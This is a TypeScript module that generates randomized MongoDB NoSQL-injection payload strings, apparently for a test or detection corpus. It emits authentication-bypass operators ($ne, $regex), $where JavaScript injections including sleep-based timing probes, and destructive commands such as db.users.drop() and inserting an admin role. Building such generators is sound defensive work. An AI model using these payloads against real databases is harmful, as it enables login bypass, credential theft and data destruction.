import type { PayloadSample } from '../payload-sample.js';
import type { Rng } from '../rng.js';
import { distinctSamples } from './distinct.js';

/** MongoDB operator and JavaScript injection payloads (JSON objects, bracket params, `$where`). */
export function generateNoSqli(rng: Rng, count: number): PayloadSample[] {
  return distinctSamples('nosqli', 'nosqli', count, rng, (r) => {
    const value = r.pick(['null', '""', '1', '0', 'true', '"x"', '"admin"', '-1', '{}', '[]']);
    const op = r.pick(['$ne', '$gt', '$gte', '$lt', '$nin', '$exists', '$regex', '$in', '$not', '$where']);
    return r.weighted<() => string>([
      [
        () =>
          `{"${op}": ${op === '$regex' ? `"${r.pick(['^a', '.*', '^adm', '^p.*', '.{8}', '^[a-f]'])}"` : op === '$in' || op === '$nin' ? `[${value}, "${r.pick(['admin', 'root', 'user'])}"]` : value}}`,
        5,
      ],
      [
        () =>
          `[${op}]=${op === '$regex' ? r.pick(['.*', '^a', '.{1}', '^admin']) : r.pick(['1', '', 'null', 'true', 'x'])}`,
        4,
      ],
      [
        () =>
          `{"$where": "${r.pick(['sleep(5000)', 'this.password.length > 0', 'return true', '1 == 1', `this.username == '${r.pick(['admin', 'root'])}'`, 'function(){return true}()'])}"}`,
        2,
      ],
      [
        () =>
          `${r.pick(["'", '"', ''])}${r.pick([' || ', ' && ', '; '])}${r.pick(["'1'=='1", 'this.password.match(/.*/)//', 'sleep(5000)', "this.isAdmin == true || '", "return true; var x='"])}`,
        2,
      ],
      [
        () =>
          `{"${r.pick(['$or', '$and'])}": [{"${r.pick(['username', 'email', 'role'])}": {"$ne": ${value}}}, {"${r.pick(['password', 'token'])}": {"$exists": true}}]}`,
        1,
      ],
      [
        () => `{"username": {"$regex": "${r.pick(['^ad', 'adm.*', '^r'])}"}, "password": {"$ne": ${value}}}`,
        1,
      ],
      [
        () =>
          `db.${r.pick(['users', 'accounts', 'orders'])}.${r.pick(['find()', 'drop()', 'remove({})', 'insert({"role":"admin"})'])}`,
        0.5,
      ],
    ])();
  });
}
